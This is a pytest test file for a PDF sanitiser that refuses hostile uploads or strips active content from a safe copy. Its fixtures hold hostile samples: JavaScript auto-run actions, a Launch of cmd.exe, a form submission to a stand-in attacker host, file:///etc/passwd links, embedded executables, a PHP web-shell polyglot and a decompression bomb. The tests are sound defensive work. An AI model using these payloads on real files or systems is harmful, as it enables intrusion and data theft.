"""PDFs made to do harm: refused, or their copy goes without it and the sender is told."""

from __future__ import annotations

from contextlib import suppress
from io import BytesIO

import pikepdf
import pytest

from adapters import documents
from adapters.documents import Findings, Refused
from tests.files.packages import docx
from tests.files.pdfs import packed, pdf, rewritten, stream, updated

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
ANNOTATION = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] %b >>]"
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>"
BYTES = stream(b"MZ" + bytes(60), b"/Type /EmbeddedFile")


CERTIFIED = b"/AcroForm << /SigFlags 3 /Fields [10 0 R] >> /Perms << /DocMDP 11 0 R >> /DSS << /Certs [] >>"
SIGNED = (
    b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <00>"
    b" /Name (Ada) /Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /P 2 >> >>] >>"
)


def judged(content: bytes, name: str = "cv.pdf") -> Findings:
    return documents.check(BytesIO(content), name, size=len(content))


def refused(content: bytes, name: str = "cv.pdf") -> str:
    with pytest.raises(Refused) as caught:
        judged(content, name)
    assert caught.value.say("nl")
    assert caught.value.say("en") != caught.value.say("nl")
    return caught.value.code


def copied(content: bytes) -> pikepdf.Pdf:
    out = BytesIO()
    documents.safe_copy(BytesIO(content), "pdf", out)
    return pikepdf.open(out)


ACTIVE = {
    "script on opening": (pdf(b"/OpenAction " + JS), {"javascript", "open_action"}),
    "script on opening, elsewhere": (pdf(b"/OpenAction 10 0 R", more={10: JS}), {"javascript", "open_action"}),
    "script in a stream": (pdf(b"/OpenAction << /S /JavaScript /JS 10 0 R >>", more={10: packed(b"x()")}), {"javascript", "open_action"}),
    "script under another spelling": (pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), {"javascript", "open_action"}),
    "script after a view": (pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>"), {"javascript", "open_action"}),
    "script at the end of a chain": (pdf(b"/OpenAction 10 0 R", more={10: b"<< /S /GoTo /D [3 0 R /Fit] /Next [11 0 R] >>", 11: b"<< /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >>", 12: JS}), {"javascript", "open_action"}),
    "script in the names": (pdf(b"/Names << /JavaScript << /Names [(a) 10 0 R] >> >>", more={10: JS}), {"javascript"}),
    "script of a page": (pdf(page=b"/AA << /O " + JS + b" >>"), {"javascript"}),
    "script of the document": (pdf(b"/AA << /WC " + JS + b" >>"), {"javascript"}),
    "script of a link": (pdf(page=ANNOTATION % (b"/A " + JS)), {"javascript"}),
    "script of a field": (pdf(b"/AcroForm << /Fields [10 0 R] >>", more={10: b"<< /FT /Tx /T (a) /AA << /F " + JS + b" >> >>"}), {"javascript"}),
    "script of a heading": (pdf(b"/Outlines << /First 10 0 R >>", more={10: b"<< /Title (a) /A " + JS + b" >>"}), {"javascript"}),
    "script without its kind": (pdf(b"/OpenAction << /JS (x) >>"), {"javascript", "open_action"}),
    "script in an object stream": (rewritten(pdf(b"/OpenAction 10 0 R", more={10: JS}), object_stream_mode=pikepdf.ObjectStreamMode.generate), {"javascript", "open_action"}),
    "script in an encrypted file": (rewritten(pdf(b"/OpenAction " + JS), encryption=pikepdf.Encryption(owner="baas", user="")), {"javascript", "open_action"}),
    "program": (pdf(b"/OpenAction " + LAUNCH), {"launch", "open_action"}),
    "program behind a link": (pdf(page=ANNOTATION % (b"/A " + LAUNCH)), {"launch"}),
    "printing on opening": (pdf(b"/OpenAction << /S /Named /N /Print >>"), {"open_action"}),
    "sending on opening": (pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"), {"form_action", "open_action"}),
    "a page opened on opening": (pdf(b"/OpenAction << /S /URI /URI (https://evil.example) >>"), {"open_action"}),
    "fetching data": (pdf(page=ANNOTATION % b"/A << /S /ImportData /F (a.fdf) >>"), {"form_action"}),
    "another file": (pdf(page=ANNOTATION % b"/A << /S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit] >>"), {"remote_link"}),
    "a file inside": (pdf(page=ANNOTATION % b"/A << /S /GoToE /D [0 /Fit] >>"), {"remote_link"}),
    "script as an address": (pdf(page=ANNOTATION % b"/A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>"), {"strange_link"}),
    "file as an address": (pdf(page=ANNOTATION % b"/A << /S /URI /URI (file:///etc/passwd) >>"), {"strange_link"}),
    "attached file": (pdf(b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", more={10: FILE, 11: BYTES}), {"embedded_file"}),
    "attached file under a page": (pdf(page=b"/AF [10 0 R]", more={10: FILE, 11: BYTES}), {"embedded_file"}),
    "attached file as a note": (pdf(page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>]", more={10: FILE, 11: BYTES}), {"embedded_file"}),
    "form that builds itself": (pdf(b"/AcroForm << /Fields [] /XFA 10 0 R >>", more={10: packed(b"<xdp/>")}), {"xfa"}),
    "form that builds itself, in pieces": (pdf(b"/AcroForm << /Fields [] /XFA [(a) 10 0 R] >>", more={10: packed(b"<xdp/>")}), {"xfa"}),
    "film": (pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"), {"media"}),
    "sound": (pdf(page=ANNOTATION % b"/A << /S /Sound /Sound 10 0 R >>", more={10: stream(b"abc")}), {"media"}),
    "data from elsewhere": (pdf(more={10: b"<< /Length 0 /F (http://evil.example/x) >>\nstream\n\nendstream"}), {"external_data"}),
    "signature": (pdf(b"/AcroForm << /SigFlags 3 /Fields [10 0 R] >>", more={10: b"<< /FT /Sig /T (s) /V << /Type /Sig /ByteRange [0 1 2 3] /Contents <00> /Name (Ada) >> >>"}), {"signature"}),
    "certified, with proof that it can be checked for long": (pdf(CERTIFIED, page=b"/Annots [10 0 R]", more={10: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (h) /Rect [0 0 0 0] /V 11 0 R >>", 11: SIGNED}), {"signature"}),
    "script added to a signed file": (updated(pdf(b"/OpenAction 10 0 R", more={10: b"<< /S /GoTo /D [3 0 R /Fit] >>"}), 10, JS), {"javascript", "open_action"}),
}  # fmt: skip


@pytest.mark.promise("P73", "S188")
@pytest.mark.parametrize(("content", "removed"), ACTIVE.values(), ids=ACTIVE)
def test_what_acts_is_told_and_gone_from_the_copy(content: bytes, removed: set[str]) -> None:
    found = judged(content)
    assert set(found.removed) == removed
    assert len(found.say("nl")) == len(found.say("en")) == 1
    out = BytesIO()
    documents.safe_copy(BytesIO(content), "pdf", out)
    assert judged(out.getvalue()).removed == ()
    with pikepdf.open(out) as copy:
        everything = b"".join(
            (thing.stream_dict if isinstance(thing, pikepdf.Stream) else thing).unparse(resolved=True)
            for thing in copy.objects
            if isinstance(thing, pikepdf.Stream | pikepdf.Dictionary | pikepdf.Array)
        )
        assert not copy.is_encrypted
    for word in (
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/EF",
        b"/EmbeddedFile",
        b"/XFA",
        b"evil",
        b"passwd",
        b"/ByteRange",
        b"Ada",
    ):
        assert word not in everything
    assert documents.text_of(out, "pdf") == "Curriculum vitae van Ada Voorbeeld"


HARMLESS = {
    "first view as a place": pdf(b"/OpenAction [3 0 R /FitH 842]"),
    "first view as an action": pdf(b"/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>"),
    "first view by name": pdf(b"/OpenAction << /S /GoTo /D (begin) >> /Names << /Dests << /Names [(begin) [3 0 R /Fit]] >> >>"),
    "first view elsewhere": pdf(b"/OpenAction 10 0 R /PageMode /UseOutlines", more={10: b"<< /S /GoTo /D [3 0 R /Fit] >>"}),
    "link to a page": pdf(page=ANNOTATION % b"/A << /S /URI /URI (https://ada.example.org/?a=1#b) >>"),
    "link to an address": pdf(page=ANNOTATION % b"/A << /S /URI /URI (mailto:ada@example.org) >>"),
    "link without its scheme": pdf(page=ANNOTATION % b"/A << /S /URI /URI (www.example.org/ada) >>"),
    "link to a telephone": pdf(page=ANNOTATION % b"/A << /S /URI /URI (tel:+31970000000) >>"),
    "link within": pdf(page=ANNOTATION % b"/Dest [3 0 R /Fit]"),
    "form to fill in": pdf(b"/AcroForm << /Fields [10 0 R] /NeedAppearances true >>", more={10: b"<< /FT /Tx /T (naam) /V (Ada) >>"}),
    "place to sign": pdf(b"/AcroForm << /Fields [10 0 R] >>", more={10: b"<< /FT /Sig /T (s) >>"}),
    "empty list of files": pdf(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "words about scripts": pdf(more={4: stream(b"BT /F1 9 Tf 9 9 Td (I write <script>, /JavaScript, /Launch and PDFs: %PDF-) Tj ET")}),
    "structure with names of its own": pdf(b"/StructTreeRoot << /Type /StructTreeRoot /K << /Type /StructElem /S /Sound /P 1 0 R >> >>"),
    "line ends before": b"\r\n\r\n" + pdf(),
    "byte order mark before": b"\xef\xbb\xbf" + pdf(),
    "wrapping of a printer": b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + pdf() + b"\x1b%-12345X",
    "padding after": pdf() + bytes(5000),
    "line ends after": pdf() + b"\r\n" * 300,
    "crumbs after": pdf() + b"<EOF> 0a 0b",
    "place to sign on a page, with its flag": pdf(b"/AcroForm << /SigFlags 1 /Fields [10 0 R] >>", page=b"/Annots [10 0 R]", more={10: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [9 9 99 99] /P 3 0 R >>"}),
    "for the web, changed by adding twice": updated(updated(rewritten(pdf(), linearize=True), 50, b"<< /A 1 >>"), 51, b"<< /A 2 >>"),
    "new version with packed objects": rewritten(pdf(header=b"%PDF-2.0\n%\xe2\xe3\xcf\xd3\n"), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "old version": pdf(header=b"%PDF-1.2\n"),
    "new version": pdf(header=b"%PDF-2.0\n%\xe2\xe3\xcf\xd3\n"),
    "wrong place of the list": pdf().replace(b"startxref\n", b"startxref\n9"),
    "wrong length of a stream": pdf(more={4: stream(b"BT /F1 9 Tf 9 9 Td (Ada) Tj ET").replace(b"/Length 30", b"/Length 12")}),
    "without its last line": pdf().replace(b"%%EOF\n", b""),
    "owner's password only": rewritten(pdf(), encryption=pikepdf.Encryption(owner="baas", user="", R=6)),
    "for the web": rewritten(pdf(), linearize=True),
    "changed by adding": pdf() + b"9 0 obj\n<< >>\nendobj\nxref\n9 1\n%010d 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF" % (len(pdf()), pdf().rindex(b"xref\n0"), len(pdf()) + 21),
    "hidden collection": pdf(b"/Collection << /View /H >>"),
}  # fmt: skip


@pytest.mark.promise("P73")
@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_what_honest_programs_write_passes_untouched(content: bytes) -> None:
    found = judged(content)
    assert (found.removed, found.pages) == ((), 1)
    with copied(content) as copy:
        assert len(copy.pages) == 1


@pytest.mark.promise("P73")
def test_links_and_first_views_are_still_in_the_copy() -> None:
    with copied(HARMLESS["link to a page"]) as copy:
        assert str(copy.pages[0].Annots[0].A.URI) == "https://ada.example.org/?a=1#b"
    with copied(HARMLESS["first view as an action"]) as copy:
        assert pikepdf.Name.GoTo == copy.Root.OpenAction.S
    with copied(HARMLESS["first view by name"]) as copy:
        assert "/Dests" in copy.Root.Names
    with copied(HARMLESS["form to fill in"]) as copy:
        assert str(copy.Root.AcroForm.Fields[0].V) == "Ada"


BOMB = pdf(more={10: packed(bytes(120_000_000), b"/Type /ObjStm /N 1 /First 4"), 11: b"[" * 9000 + b"]" * 9000})

HOSTILE = {
    "web page in front": (b"<html><body>hoi</body></html>\n" + pdf(), "polyglot"),
    "script in front": (b"/* " + pdf() + b" */", "polyglot"),
    "program in front": (b"MZ" + bytes(60) + pdf(), "polyglot"),
    "picture in front": (b"GIF89a" + pdf(), "polyglot"),
    "web page behind the header": (pdf(header=b"%PDF-1.4 <html><script>alert(1)</script>\n"), "polyglot"),
    "web page in a remark": (pdf(header=b"%PDF-1.4\n%<!DOCTYPE html><script src=//evil.example>\n"), "polyglot"),
    "server page": (pdf(header=b"%PDF-1.4\n<?php system($_GET[1]); ?>\n"), "polyglot"),
    "script behind": (pdf() + b"<script>alert(1)</script>", "polyglot"),
    "package behind": (pdf() + docx(), "polyglot"),
    "package behind, closed by a remark": (pdf() + docx()[:-2] + b"\x06\0%%EOF\n", "polyglot"),
    "picture behind": (pdf() + b"\xff\xd8\xff\xe0" + bytes(2000), "polyglot"),
    "much of anything behind": (pdf() + bytes(range(256)) * 20, "polyglot"),
    "archive": (pdf(header=b"%PDF-1.4\n" + b"%" * 247 + b"\nustar\x00"), "polyglot"),
    "cut in half": (pdf(more={10: stream(bytes(20_000))})[:9000], "truncated"),
    "without its end": (pdf()[:-120], "truncated"),
    "linearized and cut": (rewritten(pdf(more={10: stream(bytes(9000))}, catalogue=b"/X 10 0 R"), linearize=True, compress_streams=False)[:-3000] + b"%%EOF\n", "truncated"),
    "nothing but a header": (b"%PDF-1.7\n%%EOF\n", "damaged"),
    "no catalogue": (pdf().replace(b"/Root 1 0 R", b"/Root 9 0 R").replace(b"/Catalog", b"/Catalug"), "damaged"),
    "no pages": (pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     "), "no_pages"),
    "password": (rewritten(pdf(), encryption=pikepdf.Encryption(owner="baas", user="open")), "encrypted"),
    "unknown encryption": (pdf(trailer=b"/Encrypt << /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >>"), "encrypted"),
    "collection of files": (pdf(b"/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", more={10: FILE, 11: BYTES}), "portfolio"),
    "form without pages": (pdf(b"/NeedsRendering true /AcroForm << /Fields [] /XFA 10 0 R >>", more={10: packed(b"<xdp/>")}), "live_form"),
    "pages in a circle": (pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "damaged"),
    "content that is gone": (pdf().replace(b"4 0 obj", b"7 0 obj").replace(b"startxref\n", b"startxref\n7"), "damaged"),
    "the same page over and over": (pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [%b] /Count 3000" % (b"3 0 R " * 3000)), "damaged"),
    "picture under another name": (b"\x89PNG\r\n\x1a\n" + bytes(100), "other_content"),
}  # fmt: skip


@pytest.mark.promise("P73", "S134", "S188")
@pytest.mark.parametrize(("content", "code"), HOSTILE.values(), ids=HOSTILE)
def test_what_is_no_honest_pdf_is_refused_with_its_reason(content: bytes, code: str) -> None:
    assert refused(content) == code


@pytest.mark.promise("S135", "S188")
def test_a_pdf_that_unpacks_without_end_is_bounded() -> None:
    for way in (judged, copied, lambda content: documents.text_of(BytesIO(content), "pdf")):
        with suppress(Refused):
            way(BOMB)
